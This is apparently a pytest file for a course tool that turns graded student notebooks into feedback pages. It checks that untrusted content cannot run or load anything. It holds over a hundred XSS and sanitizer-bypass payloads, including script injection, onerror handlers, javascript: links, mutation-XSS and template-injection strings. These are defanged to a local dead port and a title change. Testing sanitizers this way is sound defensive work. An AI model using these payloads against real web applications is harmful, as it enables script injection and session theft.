"""A feedback page says what a student needs; nothing that a stranger put into it runs, loads or covers anything."""

import base64
import http.server
import io
import re
import shutil
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

pytest.importorskip("bleach", reason="the extra 'grade' is not installed")

from bleach._vendor import html5lib
from pages import CELL, LIMIT, TAGS, page, total, unplaced
from results import Graded, Result, Student

RAN = "document.title='RAN'"
SERVER = "http://127.0.0.1:9"
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")

# From the filter evasion cheat sheet of OWASP, html5sec.org, published bypasses of sanitizers (mutation XSS), and the
# ways of notebooks. What they ran or loaded there is RAN and SERVER here.
PAYLOADS = f"""
<script>{RAN}</script>
<SCRIPT SRC={SERVER}/xss.js></SCRIPT>
<scr<script>ipt>{RAN}</scr</script>ipt>
<<SCRIPT>{RAN};//\\<</SCRIPT>
<SCRIPT/XSS SRC="{SERVER}/xss.js"></SCRIPT>
<script>import("{SERVER}/module.js")</script>
<IMG SRC="javascript:{RAN}">
<IMG SRC=JaVaScRiPt:{RAN}>
<IMG \"\"\"><SCRIPT>{RAN}</SCRIPT>"\\>
<img src=x onerror={RAN}>
<img src=x oNeRrOr = "{RAN}">
<IMG SRC=/ onerror="{RAN}"></img>
<img src="{SERVER}/picture.png">
<img srcset="{SERVER}/picture.png 2x" src="">
<img src=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=>
<image href="{SERVER}/i.png"><image src=x onerror={RAN}>
<picture><source srcset="{SERVER}/s.png"><img src="{SERVER}/t.png"></picture>
<svg onload={RAN}>
<svg/onload={RAN}>
<svg><script>{RAN}</script></svg>
<svg><script href="{SERVER}/x.js" /></svg>
<svg><animate onbegin={RAN} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{RAN}"><text x=20 y=20>click</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{RAN}"></animate><text>click</text></a></svg>
<svg><foreignObject><iframe src="javascript:parent.{RAN}"></iframe></foreignObject></svg>
<svg><image href="{SERVER}/svg.png"/></svg>
<svg><use href="{SERVER}/use.svg#x"/></svg>
<svg><style>@import '{SERVER}/svg.css';</style></svg>
<svg></p><style><a id="</style><img src=1 onerror={RAN}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RAN}&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror={RAN}></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>
<math href="javascript:{RAN}">click</math>
<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror={RAN}>
<noscript><p title="</noscript><img src=x onerror={RAN}>">
<noscript><style></noscript><img src=x onerror={RAN}></style></noscript>
<style><!--</style><img src=x onerror={RAN}><!-- --></style>
<textarea><img title="</textarea><img src=x onerror={RAN}>"></textarea>
<title><a title="</title><img src=x onerror={RAN}>">
<xmp><p title="</xmp><svg/onload={RAN}>">
<listing>&lt;img src=x onerror={RAN}&gt;</listing>
<template><img src=x onerror={RAN}></template>
<div><template shadowrootmode=open><img src=x onerror={RAN}></template></div>
<!--[if gte IE 4]><SCRIPT>{RAN};</SCRIPT><![endif]-->
<!--><img src=x onerror={RAN}>-->
<![CDATA[><img src=x onerror={RAN}>]]>
<?xml-stylesheet href="javascript:{RAN}"?><?import namespace="t"?>
<BODY ONLOAD={RAN}>
<body background="{SERVER}/body.png">
<iframe src="javascript:parent.{RAN}"></iframe>
<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>
<iframe src={SERVER}/frame.html <
<frameset><frame src="{SERVER}/frame.html"></frameset>
<object data="data:text/html,<script>parent.{RAN}</script>"></object>
<embed src="{SERVER}/movie.swf" allowscriptaccess=always>
<applet code="X" codebase="{SERVER}/"></applet>
<META HTTP-EQUIV="refresh" CONTENT="0;url={SERVER}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{SERVER}/"><a href="page">relative</a>
<LINK REL="stylesheet" HREF="{SERVER}/link.css">
<link rel=dns-prefetch href="{SERVER}"><link rel=preload as=image href="{SERVER}/p.png">
<STYLE>@import'{SERVER}/import.css';</STYLE>
<STYLE>body{{background:url("{SERVER}/style.png")}} h1{{display:none}}</STYLE>
<style>@font-face{{font-family:x;src:url({SERVER}/font.woff)}}*{{font-family:x}}</style>
<div style="background-image:url({SERVER}/div.png)">text</div>
<div style="position:fixed;inset:0;z-index:9;background:white">You have 8 of 8 points.</div>
<DIV STYLE="width: expression({RAN});">
<p class="total-points" id="exercise-2-1">8 of 8 points</p><div class="verdict-box">2 of 2</div>
<form action="{SERVER}/post"><input name=password autofocus onfocus={RAN}><input type=submit></form>
<form><button formaction="javascript:{RAN}" autofocus onfocus={RAN}>log in</button></form>
<isindex action="javascript:{RAN}" type=image>
<input type=image src="{SERVER}/input.png">
<select autofocus onfocus={RAN}><option>1</select>
<video poster="{SERVER}/poster.png" autoplay><source src="{SERVER}/v.mp4" onerror={RAN}></video>
<audio src="{SERVER}/a.mp3" onerror={RAN} autoplay></audio>
<track src="{SERVER}/t.vtt">
<marquee onstart={RAN}>text</marquee>
<details open ontoggle={RAN}><summary>more</summary>text</details>
<dialog open style="position:fixed;inset:0">text</dialog>
<div popover id=p>text</div><button popovertarget=p>click</button>
<a href="javascript:{RAN}">click</a>
<a href="jav&#x09;ascript:{RAN}">click</a>
<a href=" &#14;  javascript:{RAN}">click</a>
<a href="javascript&colon;{RAN}">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="//127.0.0.1:9/protocol-relative" ping="{SERVER}/ping">click</a>
<a href="file:///etc/passwd">click</a>
<a onmouseover={RAN} style="position:absolute;inset:0" target=_top>click</a>
<table background="{SERVER}/table.png"><td background="{SERVER}/td.png" colspan=99999999>x</table>
<math><mi//xlink:href="data:x,<script>{RAN}</script>">
<xss onclick="{RAN}" tabindex=1 style="display:block;position:fixed;inset:0">text</xss>
</div></div></main></body><script>{RAN}</script>
</pre></code></td></table><img src=x onerror={RAN}>
--></style></script></title></textarea><svg onload={RAN}>
[click](javascript:{RAN})
[click](JaVaScRiPt:{RAN} "title")
[click](data:text/html;base64,PHNjcmlwdD4=)
[click][ref]
![alt"onerror="{RAN}]({SERVER}/markdown.png)
![alt]({SERVER}/"onerror="{RAN})
![x](javascript:{RAN})
![x](attachment:evil.svg) ![x](attachment:evil.png)
<javascript:{RAN}> <{SERVER}/autolink> {SERVER}/bare
`<img src=x onerror={RAN}>` and ``` <script>{RAN}</script> ```
$<img src=x onerror={RAN}>$ and $$</div><script>{RAN}</script>$$
\\begin{{x}}<img src=x onerror={RAN}>\\end{{x}}
| <img src=x onerror={RAN}> |
\x1b]8;;javascript:{RAN}\x1b\\click\x1b]8;;\x1b\\ \x1b[31m<script>{RAN}</script>\x1b[0m \x1b]0;title\x07
{{{{ self.__init__.__globals__ }}}} {{% include "/etc/passwd" %}} ${{7*7}}
\ufeff<scr\x00ipt>{RAN}</scr\x00ipt> <img\x0bsrc=x\x0conerror={RAN}> ＜script＞{RAN}＜/script＞
""".strip().splitlines()
MULTILINE = [
    f"```html\n<script>{RAN}</script>\n```",
    f"```mermaid\n</pre><script>{RAN}</script>\n```",
    f'```"><script>{RAN}</script>\nx\n```',
    f"[ref]: javascript:{RAN}\n\n[click][ref]",
    f"<div\n\nonclick={RAN}\n\n>text",
    f"<img\nsrc=x\nonerror\n=\n{RAN}>",
    f"    <script>{RAN}</script>\n\n> <script>{RAN}</script>\n\n- <script>{RAN}</script>",
    f"term\n: <script>{RAN}</script>\n\n# <script>{RAN}</script>\n\n#### x <a name=y onclick={RAN}>",
    f'\\\\[ <img src=x onerror={RAN}> \\\\]\n\na|b\n-|-\n<svg onload={RAN}>|"><script>{RAN}</script>',
]
PAYLOADS += MULTILINE


def hostile(payload: str):
    """A notebook with a payload in every place where text can be."""
    attachments = {
        "evil.svg": {"image/svg+xml": "PHN2Zz4="},
        "evil.png": {"image/png": payload},
        payload: {payload: payload},
    }
    kinds = ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "application/javascript")
    kinds += ("image/png", "application/vnd.jupyter.widget-view+json", "application/pdf", "video/mp4", payload)
    outputs = [
        *({"output_type": "display_data", "data": {kind: payload}, "metadata": {payload: payload}} for kind in kinds),
        {"output_type": "stream", "name": "stdout", "text": payload},
        {"output_type": "stream", "name": payload, "text": [payload, payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [f"Cell In[1]\n{payload}", payload]},
    ]
    cells = [
        {"cell_type": "markdown", "source": payload, "attachments": attachments, "metadata": {payload: payload}},
        {"cell_type": "raw", "source": payload, "metadata": {"format": "text/html"}},
        {"cell_type": "code", "source": payload, "metadata": {"nbgrader": {"grade_id": payload}}, "outputs": outputs},
        {"cell_type": payload, "source": [payload, payload], "id": payload},
    ]
    return nbformat.from_dict({"cells": cells, "metadata": {"title": payload}, "nbformat": 4, "nbformat_minor": 5})


def hostile_result(payload: str) -> Result:
    return Result(
        Student(payload, payload, payload),
        payload,
        payload,
        payload,
        exercises=[
            Graded("2.1", payload, 1, 2, f"`{payload}` {payload}", [(payload, True)], "cell 4", payload),
            Graded(payload, payload, None, 2, payload, [], payload, payload),
        ],
        cells=[(1, payload), (4, payload)],
        notes=[payload],
        version=payload,
    )


def result(**given) -> Result:
    exercises = [
        Graded("2.1", "one step", 2, 2, "Right.", [("the values", True)], "cell 1"),
        Graded(
            "2.2",
            "the jump",
            1.5,
            2,
            "`t` is not used.",
            [("the values", True), ("a batch", False)],
            "cell 2",
            "Nearly!",
        ),
        Graded("2.5", "an open question", None, 3, "", [], "cell 3"),
    ]
    usual = {"exercises": exercises} | given
    return Result(
        Student("ada", "Ada Lovelace", "ada@example.org"), "02_forward_diffusion", "a.ipynb", "0" * 64, **usual
    )


def notebook(*outputs, source="x = 1", markdown="Text."):
    cells = [nbformat.v4.new_code_cell(source, outputs=list(outputs)), nbformat.v4.new_code_cell("y = 2")]
    return nbformat.v4.new_notebook(cells=[*cells, nbformat.v4.new_markdown_cell(markdown)])


def stream(text: str, name="stdout"):
    return nbformat.v4.new_output("stream", name=name, text=text)


def display(**data):
    return nbformat.v4.new_output("display_data", {kind.replace("_", "/"): value for kind, value in data.items()})


def png(width=40, height=30, noise=False) -> str:
    image = Image.effect_noise((width, height), 80) if noise else Image.new("RGB", (width, height), "teal")
    file = io.BytesIO()
    image.save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def parsed(html: str):
    return html5lib.parse(html, namespaceHTMLElements=False)


def words(html: str) -> str:
    """What a reader sees."""
    body = parsed(html).find("body")
    return " ".join("".join(body.itertext()).split())


# ---------------------------------------------------------------- nothing runs


OURS = {"html", "head", "body", "header", "main", "meta", "title", "style"}
ATTRIBUTES = {"class", "id", "href", "src", "alt", "colspan", "rowspan", "scope", "lang"}


def assert_harmless(html: str, verdicts: int) -> None:
    """As the standard says that a browser reads it: only known elements and attributes, nothing from anywhere."""
    tree = parsed(html)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        assert element.tag in TAGS | OURS, element.tag
        if element.tag == "meta":
            continue
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        assert element.tag == "a" or "href" not in element.attrib
        assert re.match(r"https?://|mailto:|#[\w-]+$", element.get("href", "#x")), element.attrib
        assert element.get("src", "data:image/png;base64,").startswith("data:image/"), element.attrib
        assert "svg" not in element.get("src", "")[:30]
    head = tree.find("head")
    assert len(list(tree.iter("style"))) == len(head.findall("style")) == 1
    assert len(list(tree.iter("meta"))) == len(head.findall("meta")) == html.count("<meta")
    policy = head.findall("meta")[1]
    assert policy.get("content").startswith("default-src 'none'; img-src data:;")
    assert len(list(tree.iter("title"))) == 1 and "url(" not in head.find("style").text
    ids = [element.get("id") for element in tree.iter() if isinstance(element.tag, str) and element.get("id")]
    assert len(ids) == len(set(ids)) and all(re.fullmatch(r"(cell|exercise)-[\w-]+", one) for one in ids)
    assert len([e for e in tree.iter("p") if e.get("class") == "total-points"]) == 1
    assert len([e for e in tree.iter("div") if "verdict-box" in e.get("class", "")]) <= verdicts


def test_there_are_enough_payloads_to_speak_of():
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_a_payload_is_left(payload):
    assert_harmless(page(hostile_result(payload), hostile(payload), rubric={"2.1": payload}), verdicts=2)


PIECES = [
    "<",
    ">",
    "</",
    "/>",
    "<!--",
    "-->",
    '"',
    "'",
    "`",
    "=",
    "&lt;",
    "&#60;",
    " ",
    "\n",
    "$",
    "```",
    "[x](",
    ")",
    "![",
    "]",
]
PIECES += [
    "svg",
    "math",
    "style",
    "script",
    "img src=x",
    "onerror=alert(1)",
    "a href=javascript:alert(1)",
    "table",
    "td",
]
PIECES += [
    "noscript",
    "textarea",
    "title",
    "template",
    "select",
    "form",
    "mglyph",
    "mtext",
    "foreignObject",
    "p",
    "div",
    "\x00",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_nor_of_any_mixture_of_tags(text):
    html = display(text_html=text)
    markdown = display(text_markdown=text)
    assert_harmless(
        page(result(exercises=[]), notebook(html, markdown, stream(text), source=text, markdown=text)), verdicts=0
    )


class _Counting(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture
def server():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting) as server:
        server.asked = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def browse(path: Path) -> str:
    """The page as a real browser has it after two seconds."""
    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000", "--dump-dom"]
    profile = f"--user-data-dir={path.parent / 'profile'}"
    return subprocess.run([*command, profile, path.as_uri()], capture_output=True, text=True, timeout=120).stdout


@pytest.mark.skipif(not CHROMIUM, reason="there is no chromium")
def test_in_a_browser_nothing_runs_and_nothing_is_loaded(server, tmp_path):
    here = [payload.replace("127.0.0.1:9", f"127.0.0.1:{server.server_port}") for payload in PAYLOADS]
    raw = tmp_path / "raw.html"
    raw.write_text("<title>quiet</title>" + "\n".join(here[:14]), "utf-8")
    assert "<title>RAN</title>" in browse(raw) and server.asked, "the payloads must work where nobody cleans them"
    server.asked.clear()
    book = {"cells": [cell for payload in here for cell in hostile(payload).cells]}
    path = tmp_path / "page.html"
    path.write_text(page(hostile_result(here[0]), book), "utf-8")
    dom = browse(path)
    assert "Your notebook" in dom and f"cell {len(book['cells'])}" in dom
    assert "<title>RAN" not in dom and server.asked == []


# ---------------------------------------------------------------- nothing is too much


def test_a_page_has_at_most_a_megabyte_whatever_was_printed():
    flood = "0123456789" * 10_000_000  # 100 MB
    started = time.monotonic()
    html = page(result(), notebook(stream(flood), display(text_html=flood), display(image_png=flood), source=flood))
    assert len(html.encode()) <= LIMIT and time.monotonic() - started < 20
    assert "99,992,000 characters are left out" in html and "20,000 of 100,000,000 characters are shown" in html
    assert "more than 10 MB" in html


def test_many_cells_outputs_and_pictures_leave_the_graded_cells_in(monkeypatch):
    monkeypatch.setattr("pages.SECONDS", 3.0)  # of ten
    pictures = [display(image_png=png(300, 300, noise=True)) for _ in range(15)]
    cells = [nbformat.v4.new_code_cell(f"a = '{'&' * 3000}'", outputs=pictures) for _ in range(400)]
    last = nbformat.v4.new_code_cell("the_answer = 42")
    graded = result(exercises=[Graded("2.1", "one step", 2, 2, "Right.", [], "cell 401")])
    html = page(graded, nbformat.v4.new_notebook(cells=[*cells, last]))
    assert 700_000 < len(html.encode()) <= LIMIT
    assert "the_answer" in html and "Exercise 2.1: 2 of 2 points</strong> <p>Right.</p>" in html
    assert re.search(r"Cells \d+ to 400 are left out: a page has at most 1 MB", html)
    assert "the pictures of this page have used up their space" in html


def test_every_verdict_is_there_even_if_its_cell_is_too_long():
    cells = [nbformat.v4.new_code_cell("x", outputs=[display(text_plain="&" * 7900)] * 20) for _ in range(3)]
    graded = [Graded(f"2.{n}", "task", 1, 2, "Nearly.", [], f"cell {n}") for n in (1, 2, 3)]
    html = page(result(exercises=graded), nbformat.v4.new_notebook(cells=cells))
    assert len(html.encode()) <= LIMIT and "(This cell is too long for the page.)" in html
    assert all(f'id="exercise-2-{n}"' in html for n in (1, 2, 3))


def test_a_result_full_of_words_fits_too():
    text = '"<&>' * 10_000
    many = [Graded(f"2.{n}", text, 1, 2, text, [(text, False)] * 50, "cell 1", text) for n in range(8)]
    graded = result(exercises=many, notes=[text] * 500, cells=[(1, text)] * 500)
    html = page(graded, notebook(*[stream("<" * 9000), display(text_plain="&" * 9000)] * 20))
    assert len(html.encode()) <= LIMIT


@pytest.mark.parametrize(
    "unit", ["[", "*a ", "<div>", "<b><p>", "$$ ", "\\\\[", "a|b\n-|-\n", "> ", "`a", "<ul><li>", "<a href='"]
)
def test_what_is_slow_to_read_takes_seconds_once(unit, monkeypatch):
    monkeypatch.setattr("pages.SECONDS", 1.0)  # of ten
    cells = [nbformat.v4.new_markdown_cell(unit * (CELL // len(unit))) for _ in range(100)]
    started = time.monotonic()
    html = page(result(exercises=[]), nbformat.v4.new_notebook(cells=cells))
    assert time.monotonic() - started < 15 and len(html.encode()) <= LIMIT


@pytest.mark.parametrize("across", [3_000, 10_000, 30_000])
def test_a_small_file_with_very_many_pixels_is_left_out_without_a_warning(across, recwarn):
    file = io.BytesIO()
    Image.new("1", (across, 9_000)).save(file, "PNG")
    html = page(result(), notebook(display(image_png=base64.b64encode(file.getvalue()).decode())))
    assert "<img" not in html and "too large" in words(html) and not recwarn.list


def test_out_of_time_only_small_pictures_are_shown(monkeypatch):
    monkeypatch.setattr("pages.SECONDS", 0)
    html = page(
        result(), notebook(display(image_png=png(500, 400, noise=True)), display(image_png=png()), markdown="**x**")
    )
    assert html.count("<img") == 1 and "<pre>**x**</pre>" in html


@pytest.mark.parametrize(
    "unit", ["&", "/", "&/", "~/a ", "/home/", "\\", "C:\\", "/usr:", "'/tmp/x'", "x/site-packages"]
)
def test_paths_are_found_in_no_time(unit):
    started = time.monotonic()
    unplaced(unit * (20_000 // len(unit)))
    assert time.monotonic() - started < 1


ODD = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
)
NAMES = [
    "cell_type",
    "source",
    "outputs",
    "metadata",
    "output_type",
    "data",
    "text",
    "traceback",
    "attachments",
    "text/html",
]
NAMES += ["ename", "evalue", "name", "image/png", "nbgrader", "grade_id"]
VALUES = st.sampled_from(["code", "markdown", "raw", "stream", "error", "display_data", "\ud800", "![](attachment:a)"])
SHAPELESS = st.recursive(
    ODD | VALUES,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(NAMES), inner, max_size=6),
    max_leaves=25,
)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.dictionaries(st.sampled_from(NAMES), SHAPELESS, max_size=6), max_size=3), SHAPELESS)
def test_whatever_has_the_wrong_type_there_is_a_page(cells, other):
    for book in ({"cells": cells}, {"cells": [{"cell_type": "code", "outputs": cells}]}, other):
        html = page(result(), book)
        assert_harmless(html, verdicts=3)
        assert "3.5 of 4 points" in words(html)
        html.encode("utf-8")


# ---------------------------------------------------------------- what it says


def test_a_perfect_student_reads_nothing_that_looks_like_less():
    perfect = [Graded(f"2.{n}", "x", 2, 2) for n in range(1, 5)]
    assert total(result(exercises=perfect)) == "8 of 8 points"
    waiting = Graded("2.5", "open", None, 3)
    said = total(result(exercises=[*perfect, waiting]))
    assert said == "8 of 8 points, and up to 3 more when a person has read your answer to 2.5"
    read = Graded("2.5", "open", 2.5, 3)
    assert total(result(exercises=[*perfect, read])) == "10.5 of 11 points"
    two = [waiting, Graded("2.6", "open", None, 1)]
    assert total(result(exercises=two)) == "up to 4 points when a person has read your answers to 2.5 and 2.6"
    assert total(result(exercises=[])) == "Nothing in this notebook could be graded."


def test_it_has_the_name_the_titles_the_sentences_and_where_things_were_found():
    html = page(result(notes=["kernel 'x' became python3"], cells=[(2, "stopped after 60 s")]), notebook())
    seen = words(html)
    for wanted in (
        "Ada Lovelace",
        "Lesson 02: forward diffusion",
        "2.2 the jump",
        "1.5 of 2",
        "found in cell 2",
        "Nearly!",
    ):
        assert wanted in seen
    assert "✓ right: the values" in seen and "✗ not yet: a batch" in seen
    assert "waiting for a person (up to 3)" in seen and "0 of 3" not in seen
    assert "kernel 'x' became python3" in seen and seen.count("stopped after 60 s") == 2
    assert "<code>t</code> is not used." in html


def test_each_exercise_has_a_link_to_its_verdict_behind_the_answer():
    html = page(result(), notebook(source="first_answer = 1"))
    tree = parsed(html)
    links = [a.get("href") for a in tree.iter("a")]
    assert links == ["#exercise-2-1", "#exercise-2-2", "#exercise-2-5"]
    order = [html.index(part) for part in ('id="cell-1"', 'id="exercise-2-1"', 'id="cell-2"', 'id="exercise-2-2"')]
    assert order == sorted(order)


def test_without_a_place_the_cell_that_the_lesson_made_for_it_has_the_verdict():
    book = notebook()
    book.cells[1].metadata["nbgrader"] = {"grade_id": "ex-2-1"}
    graded = result(
        exercises=[Graded("2.1", "one step", 0, 2, "Not answered."), Graded("2.2", "the jump", 0, 2, "Missing.")]
    )
    html = page(graded, book)
    assert html.index('id="cell-2"') < html.index('id="exercise-2-1"') < html.index('id="cell-3"')
    assert "exercise-2-2" not in html and "Missing." in words(html)


def test_a_check_is_not_shown_with_its_hidden_tests_and_traceback():
    failed = nbformat.v4.new_output("error", ename="AssertionError", evalue="secret", traceback=["Cell In[1]\n secret"])
    book = notebook()
    book.cells.append(nbformat.v4.new_code_cell('# check (locked)\ncheck("2.1", f, N=0.7)', outputs=[failed]))
    seen = words(page(result(), book))
    assert "secret" not in seen and "0.7" not in seen and "The check of an exercise." in seen
    assert "secret" in words(
        page(result(exercises=[Graded("2.1", "x", 2, 2, "Right.", [], "cell 4")]), book)
    )  # their own


def test_of_an_error_the_students_own_lines_and_the_last_line_are_shown():
    """The frames are those of IPython 9, as nbclient stores them."""
    green, cyan, red, plain = "\x1b[32m", "\x1b[36m", "\x1b[31m", "\x1b[39m"
    cell = f"{cyan}Cell{plain}{cyan} {plain}"
    frames = [
        red + "-" * 75 + plain,
        f"{red}RuntimeError{plain}                              Traceback (most recent call last)",
        f"{cell}{green}In[3]{plain}{green}, line 2{plain}\n{green}      1{plain} x\n{green}----> 2{plain} helper(x)\n",
        f"{cell}{green}In[2]{plain}{green}, line 5{plain}, in helper(x)\n----> 5 x @ 3\n",
        f"{cyan}File {plain}{green}~/course/.venv/lib/site-packages/torch/_tensor.py:40{plain}, in wrapped()\n"
        "     39 inside = 'torch'\n---> 40 return f()\n",
        f"{red}RuntimeError{plain}: both arguments to matmul need to be at least 1D",
    ]
    error = nbformat.v4.new_output(
        "error", ename="RuntimeError", evalue="both arguments to matmul need to be at least 1D", traceback=frames
    )
    html = page(result(), notebook(error))
    seen = words(html)
    assert "----> 2 helper(x)" in seen and "----> 5 x @ 3" in seen
    assert seen.count("RuntimeError: both arguments to matmul need to be at least 1D") == 1
    assert "_tensor.py" not in seen and "inside" not in seen and "Traceback" not in seen and "\x1b" not in html


def test_no_folder_of_the_teachers_machine_is_on_the_page():
    home, temp, course = Path.home(), tempfile.gettempdir(), Path(__file__).resolve().parent.parent
    paths = [f"{home}/grading/private/a.py", f"{temp}/tmpab12/nb.ipynb", f"{course}/instructor/grade.py"]
    paths += ["/home/teacher/x/lib/python3.11/site-packages/torch/nn/functional.py", r"C:\Users\Teacher\AppData\t.py"]
    text = " ".join(f"{path}:3 '{path}' (file://{path})" for path in paths)
    graded = result(notes=[text], cells=[(1, text)], exercises=[Graded("2.1", "x", 0, 2, text, [], "cell 1")])
    outputs = [stream(text, "stderr"), display(text_plain=text), display(text_html=f"<b>{text}</b>")]
    outputs.append(nbformat.v4.new_output("error", ename="OSError", evalue=text, traceback=[f"Cell In[1]\n{text}"]))
    html = page(graded, notebook(*outputs))
    for folder in (str(home) + "/", temp, str(course), "/teacher", "Teacher", "site-packages", "grading/"):
        assert folder not in html
    assert "…/functional.py:3" in html and "…/t.py" in html


@pytest.mark.parametrize(
    "text", ["https://example.org/home/x", "a/tmp/b", "3/4", "and/or", "x[1]/home", "//", "/", "rate 1/2"]
)
def test_what_is_no_path_of_this_machine_stays(text):
    assert unplaced(text) == text


@given(st.text())
def test_and_shortening_twice_is_shortening_once(text):
    assert unplaced(unplaced(text)) == unplaced(text)


def test_pictures_are_shown_from_outputs_attachments_and_html():
    attached = nbformat.v4.new_markdown_cell("![drawn](attachment:my%20picture.png) ![none](attachment:other.png)")
    attached.attachments = {"my picture.png": {"image/png": png()}}
    outputs = [display(image_png=png()), display(text_html=f'<img src="data:image/png;base64,{png(50)}">')]
    book = nbformat.v4.new_notebook(cells=[attached, nbformat.v4.new_code_cell("x", outputs=outputs)])
    html = page(result(), book)
    assert len(list(parsed(html).iter("img"))) == 3
    assert "none: a picture that is not in the notebook" in words(html)


def test_a_large_picture_is_saved_again_smaller_and_damaged_ones_are_said():
    large = png(500, 400, noise=True)
    html = page(
        result(), notebook(display(image_png=large), display(image_png=large[:5000]), display(image_jpeg="%%%"))
    )
    [image] = parsed(html).iter("img")
    assert image.get("src").startswith("data:image/webp;base64,") and len(image.get("src")) < len(large) * 3 / 4
    opened = Image.open(io.BytesIO(base64.b64decode(image.get("src").partition(",")[2])))
    assert opened.size == (500, 400)
    assert words(html).count("A picture is left out: it is damaged") == 2


def test_tables_highlighted_code_and_progress_bars_look_as_they_should():
    table = "<style scoped>td {color: red}</style><table class=dataframe><tr><th>loss<td>0.25</table><center>"
    markdown = "# Why\n\nBecause `t` is *random*.\n\n```python\nfor i in range(3): pass\n```\n\n- one\n- two"
    bar = "".join(f"\r {n} %" for n in range(101))
    html = page(
        result(), notebook(display(text_html=table), stream(bar), source="def f(): return 1", markdown=markdown)
    )
    assert "<th>loss</th><td>0.25</td>" in html and "color: red" not in html and "center>" not in words(html)
    assert "<h1>Why</h1>" in html and "<em>random</em>" in html and html.count('<span class="k">') >= 3
    assert "100 %" in words(html) and "99 %" not in words(html)


def test_drawings_scripts_and_mathematics_are_said_or_kept_as_text():
    drawing = {"image/svg+xml": "<svg/>", "text/plain": "<Figure>"}
    outputs = [nbformat.v4.new_output("display_data", drawing), display(application_javascript="run()")]
    seen = words(page(result(), notebook(*outputs, markdown=r"$x_t = \sqrt{\bar\alpha_t}\,x_0$ and $$a < b$$")))
    assert "A drawing (SVG) is left out" in seen and "A script is left out." in seen
    assert r"$x_t = \sqrt{\bar\alpha_t}\,x_0$ and $$a < b$$" in seen


def test_links_of_students_stay_when_they_lead_to_the_web():
    seen = page(result(exercises=[]), notebook(markdown="[paper](https://arxiv.org/abs/2006.11239) <mailto:a@b.org>"))
    assert [a.get("href") for a in parsed(seen).iter("a")] == ["https://arxiv.org/abs/2006.11239", "mailto:a@b.org"]


def test_the_course_own_lessons_come_out_whole_and_within_the_limit():
    for path in sorted((Path(__file__).parent.parent / "notebooks").glob("0[25]_*.ipynb")):
        html = page(result(exercises=[]), nbformat.read(path, as_version=4))
        assert len(html.encode()) <= LIMIT and "cannot be shown" not in html and "are left out: a page" not in html
        assert_harmless(html, verdicts=0)
